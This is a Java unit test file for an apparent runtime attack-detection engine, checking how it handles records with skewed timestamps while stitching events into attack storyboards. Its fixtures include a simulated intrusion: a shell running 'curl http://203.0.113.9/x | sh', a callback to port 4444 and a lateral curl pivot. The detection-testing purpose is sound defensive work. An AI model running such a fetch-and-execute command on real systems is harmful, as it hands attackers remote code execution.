package io.sightline.engine;

import static io.sightline.engine.Events.container;
import static io.sightline.engine.Events.process;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.asset.Inventory;
import io.sightline.event.ContainerContext;
import io.sightline.event.ProcessRef;
import io.sightline.event.RuntimeEvent;
import io.sightline.event.SourceRecord;
import io.sightline.storyboard.Storyboard;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** One record dated hours ahead must not make the engine forget what it holds; a real jump in time must. */
class ClockStoriesTest {

    private static final String NODE_1 = "node-1";
    private static final String NODE_2 = "node-2";
    private static final Optional<ContainerContext> ORDERS = container("aaaa", "payments", "orders-api-1");
    private static final Optional<ContainerContext> STOCK = container("bbbb", "inventory", "stock-1");

    private final Events events = new Events();
    private final List<RuntimeEvent> fed = new ArrayList<>();

    private final ProcessRef java = process(NODE_1, 101, -800, "/opt/java/bin/java", "-jar app.jar", ORDERS);
    private final ProcessRef sh = process(NODE_1, 500, 10, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", ORDERS);
    private final ProcessRef pivot =
            process(NODE_1, 510, 40, "/usr/bin/curl", "-X POST http://10.0.2.20:8080/", ORDERS);
    private final ProcessRef tomcat = process(NODE_2, 200, -700, "/usr/local/openjdk/bin/java", "catalina", STOCK);

    @Test
    void aRecordDatedTwoHoursAheadIsStitchedButDoesNotAgeOutTheAcceptTheTrailNeeds() {
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        feed(events.exec(sh, java));
        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        int accepted = feed(events.accept(tomcat, 40.2, "10.0.2.20:8080", "10.0.1.10:36000"));
        ProcessRef skewed = process(NODE_2, 900, 7200, "/usr/bin/logrotate", "", Optional.empty());
        int ahead = feed(events.exec(skewed, null));
        feed(events.exec(pivot, sh));
        int dialled = feed(events.connect(pivot, 40.1, "10.0.1.10:36000", "10.0.2.20:8080"));
        StoryboardEngine engine = new StoryboardEngine(new Inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);

        fed.forEach(engine::accept);

        Storyboard attack = engine.storyboards().getFirst();
        assertThat(lines(attack)).contains(dialled, accepted);
        assertThat(attack.hosts()).containsExactlyInAnyOrder(NODE_1, NODE_2);
        assertThat(engine.lateEvents()).isZero();
        assertThat(engine.recordsAhead()).extracting(SourceRecord::line).containsExactly(ahead);
    }

    @Test
    void aRunOfRecordsDatedAheadInOneStreamDoesNotMoveTheClockEither() {
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        feed(events.exec(sh, java));
        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
        int accepted = feed(events.accept(tomcat, 40.2, "10.0.2.20:8080", "10.0.1.10:36000"));
        List<Integer> ahead = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            ProcessRef skewed = process(NODE_2, 900 + i, 7200 + i, "/usr/bin/logrotate", "", Optional.empty());
            ahead.add(feed(events.exec(skewed, null)));
        }
        feed(events.exec(pivot, sh));
        int dialled = feed(events.connect(pivot, 40.1, "10.0.1.10:36000", "10.0.2.20:8080"));
        StoryboardEngine engine = new StoryboardEngine(new Inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);

        fed.forEach(engine::accept);

        assertThat(lines(engine.storyboards().getFirst())).contains(dialled, accepted);
        assertThat(engine.recordsAhead()).extracting(SourceRecord::line).containsExactlyElementsOf(ahead);
    }

    @Test
    void timeThatMovesOnAndStaysThereAgesOutWhatNoTrailHolds() {
        StoryboardEngine engine = new StoryboardEngine(new Inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
        for (int i = 0; i < 50; i++) {
            ProcessRef job = process(NODE_1, 10_000 + i, i * 0.1, "/bin/date", "", ORDERS);
            engine.accept(events.exec(job, null));
            engine.accept(events.exit(job, i * 0.1 + 0.05));
        }

        // An hour of quiet, then the node is busy again: 32 records of the one stream confirm the jump.
        for (int i = 0; i < 33; i++) {
            engine.accept(events.exec(process(NODE_1, 20_000 + i, 3600 + i, "/bin/date", "", ORDERS), null));
        }

        assertThat(engine.evictedProcesses()).isEqualTo(50);
        assertThat(engine.recordsAhead()).isEmpty();
    }

    private int feed(RuntimeEvent event) {
        fed.add(event);
        return event.source().line();
    }

    private static Set<Integer> lines(Storyboard storyboard) {
        return storyboard.records().stream().map(SourceRecord::line).collect(Collectors.toSet());
    }
}
